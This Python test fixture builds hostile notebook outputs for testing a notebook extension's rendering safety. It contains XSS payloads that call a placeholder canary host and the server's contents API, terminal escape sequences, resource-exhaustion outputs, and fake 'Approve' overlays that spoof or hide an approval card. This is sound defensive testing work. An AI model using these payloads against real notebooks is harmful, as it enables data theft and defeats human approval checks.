"""Outputs that report to a canary when they act: each by a request of its own, to know which did."""

from __future__ import annotations

# ruff: noqa: E501 - a table of payloads reads better with each on a line
import json
from typing import Any

from tests.notebook.hostile import EVIL, HOSTILE, VEGA, WIDGET

_HERE = {"surrogates", "wrong sorts"}  # no JSON; they are seen off without a browser


def payloads(canary: str, model_id: str) -> dict[str, dict[str, Any]]:
    """Bundles by name.

    Args:
        canary: The address to report to; it gets the payload's name appended.
        model_id: Of a card that is open on the page.
    """
    found: dict[str, dict[str, Any]] = {}
    for name, bundle in HOSTILE.items():
        if name not in _HERE:
            text = json.dumps(bundle, default=repr)
            found[name] = json.loads(text.replace(EVIL, f"{canary}{_slug(name)}/"))
    for name, source in _MORE.items():
        filled = source.replace("CANARY", f"{canary}{_slug(name)}").replace("MODEL", model_id)
        found[name] = json.loads(filled) if filled.startswith("{") else {"text/html": filled}
    found["own card again"] = {WIDGET: {"model_id": model_id, "version_major": 2, "version_minor": 0}}
    found["update of the card"] = {
        "text/html": "<b>Approved by you</b>",
        "transient": {"display_id": model_id},
        "display_id": model_id,
    }
    found["vega with an address"] = {VEGA: {"data": {"url": f"{canary}vega"}, "mark": "bar"}}
    found["a long line"] = {"text/plain": "x" * 2_000_000}
    found["a long word of html"] = {"text/html": "<p>" + "x" * 500_000}
    found["100,000 nodes"] = {"text/html": "<p>x" * 100_000}
    found["deep html"] = {"text/html": "<div>" * 50_000 + "x"}
    found["endless json"] = {"application/json": {"a": [[n] for n in range(100_000)]}}
    return found


def _slug(name: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in name)


_RUN = "fetch('CANARY');fetch('/api/contents?canary=1')"
_MORE = {
    "script that calls": f"<script>{_RUN}</script>",
    "image that fails": f'<img src=x onerror="{_RUN}">',
    "svg that loads": f'<svg onload="{_RUN}"></svg>',
    "details that open": f'<details open ontoggle="{_RUN}">x</details>',
    "input in focus": f'<input autofocus onfocus="{_RUN}">',
    "animation that starts": f'<style>@keyframes x{{}}</style><p style="animation:x 1s" onanimationstart="{_RUN}">x',
    "video source": f'<video><source onerror="{_RUN}" src=x></video>',
    "frame of script": f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    "frame of a data address": "<iframe src=\"data:text/html,<script>fetch('CANARY')</script>\"></iframe>",
    "frame of an address": '<iframe src="CANARY"></iframe>',
    "object": '<object data="CANARY"></object>',
    "embed": '<embed src="CANARY">',
    "picture": '<picture><source srcset="CANARY"><img src=x></picture>',
    "image set": '<img srcset="CANARY 1x">',
    "background": "<p style=\"background:url('CANARY')\">x</p>",
    "list image": "<ul style=\"list-style-image:url('CANARY')\"><li>x</ul>",
    "sheet": '<link rel="stylesheet" href="CANARY">x',
    "import": "<style>@import url('CANARY');</style><p>x",
    "font": "<style>@font-face{font-family:x;src:url('CANARY')}</style><p style=\"font-family:x\">abc",
    "prefetch": '<link rel="prefetch" href="CANARY"><link rel="preload" as="image" href="CANARY">x',
    "refresh": '<meta http-equiv="refresh" content="0;url=CANARY">x',
    "audio": '<audio src="CANARY" autoplay></audio>',
    "track": '<video src=x><track default src="CANARY"></video>',
    "poster": '<video poster="CANARY"></video>',
    "form": '<form action="CANARY"><input name=a><button id=go>Approve</button></form>',
    "cover": '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff8">Approve</div>',
    "cover by margin": '<div style="margin:-2000px;width:9999px;height:9999px;position:relative;'
    'z-index:99999;background:#fff8">Approve</div>',
    "cover by transform": '<div style="transform:scale(99);position:relative;z-index:9999">Approve</div>',
    "style of the page": "<style>.aiso-card{display:none!important}body{visibility:hidden}</style>x",
    "command on click": '<b data-commandlinker-command="notebook:insert-cell-below" '
    'data-commandlinker-args="{}">Approve</b>',
    "card of our own making": '<div class="aiso-card" role="group"><button class="aiso-approve">Approve</button></div>',
    "base": '<base href="CANARY">x',
    "math with a link": "<math href=\"javascript:fetch('CANARY')\"><mtext>x</mtext></math>",
    "dialog": '<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Approve</dialog>',
    "popover": "<div popover id=pop>Approve</div><button popovertarget=pop>x</button>",
    "markdown image": '{"text/markdown": "![x](CANARY) <img src=x onerror=fetch(\\"CANARY\\")>"}',
    "markdown cover": '{"text/markdown": "<div style=\\"position:fixed;inset:0;z-index:99999\\">Approve</div>"}',
    "latex macro": '{"text/latex": "$\\\\href{javascript:fetch(\'CANARY\')}{Approve}$"}',
    "latex image": '{"text/latex": "$\\\\require{html}\\\\style{background:url(CANARY)}{x}$"}',
    "svg with an address": '{"image/svg+xml": "<svg xmlns=\\"http://www.w3.org/2000/svg\\"><image '
    'href=\\"CANARY\\" width=\\"9\\" height=\\"9\\"/><script>fetch(\'CANARY\')</script></svg>"}',
    "javascript that calls": '{"application/javascript": "fetch(\'CANARY\')"}',
    "title of a terminal": '{"text/plain": "\\u001b]0;CANARY\\u0007\\u001b]52;c;aGk=\\u0007\\u001b[2J\\u001b[Hx"}',
    "link of a terminal": '{"text/plain": "\\u001b]8;;javascript:fetch(\'CANARY\')\\u0007x\\u001b]8;;\\u0007"}',
    "geojson": '{"application/geo+json": {"type": "Point", "url": "CANARY"}, "text/plain": "x"}',
    "plotly": '{"application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "CANARY"}]}}}',
}
